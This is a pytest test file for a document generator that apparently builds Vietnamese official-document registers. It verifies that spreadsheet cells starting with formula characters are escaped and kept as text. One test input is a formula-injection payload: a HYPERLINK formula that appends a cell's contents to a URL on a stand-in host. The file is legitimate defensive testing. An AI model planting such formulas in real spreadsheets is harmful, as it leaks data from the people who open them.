"""Text that starts like a formula is never one in what docgen writes for a
spreadsheet: a CSV value gets a leading ' (docgen.spreadsheet.escape_formula),
an .xlsx cell stays text with Excel's quote prefix (write_text_cell, used by
the register's sheet)."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from docgen import doctypes
from docgen.sheets.register_sheet import register_xlsx
from docgen.sheets.spreadsheet import escape_formula

STARTS_LIKE_A_FORMULA = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', "+84 912 345 678", "-1+2",
                         "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
ORDINARY = ["Kế hoạch tiêm chủng", "", "1-2", " =không phải công thức", "Xã Ia Kha (=)", "'đã có nháy"]


@pytest.mark.parametrize("text", STARTS_LIKE_A_FORMULA)
def test_a_csv_value_that_starts_like_a_formula_gets_a_quote(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ORDINARY + [12, 1.5, None])
def test_anything_else_is_unchanged(value):
    assert escape_formula(value) == value


def entry(subject: str, number: int):
    officer = SimpleNamespace(full_name="Trần Thị Vy")
    return SimpleNamespace(
        number=number, symbol="KH-UBND", number_text=f"{number:02d}/KH-UBND", issued_on=dt.date(2026, 3, 2),
        subject=subject, type_name=doctypes.get(None).name, signer="@Nguyễn Văn Bình", recipients=3,
        issued_by=officer,
        issued_at=dt.datetime(2026, 3, 2, 1, 30), sha256="a" * 64, recall=None, replaces=None,
        replaced_by=None)


def test_the_register_sheet_keeps_them_text_with_the_quote_prefix():
    subjects = STARTS_LIKE_A_FORMULA + ORDINARY[:1]
    data = register_xlsx("=UBND xã Ia Kha", [entry(s, n) for n, s in enumerate(subjects, start=1)],
                         searched="-Trích yếu: =x")
    sheet = load_workbook(io.BytesIO(data)).active
    titles = [cell.value for cell in sheet[3]]
    subject_column, signer_column = titles.index("Trích yếu nội dung") + 1, titles.index("Người ký") + 1
    for row, subject in enumerate(subjects, start=4):
        cell = sheet.cell(row, subject_column)
        assert (cell.value, cell.data_type) == (subject, "s")  # the text itself, unchanged
        assert cell.quotePrefix is (subject != ORDINARY[0])
        assert sheet.cell(row, signer_column).quotePrefix is True  # the signer "@…"
        assert sheet.cell(row, 2).quotePrefix is False  # "KH-UBND"
    assert sheet["A1"].value.endswith("– =UBND xã Ia Kha") and not sheet["A1"].quotePrefix
    assert sheet["A2"].quotePrefix and sheet["A2"].value == "-Trích yếu: =x"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        styles = archive.read("xl/styles.xml").decode("utf-8")
        cells = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert 'quotePrefix="1"' in styles
    assert "<f>" not in cells  # no formula anywhere
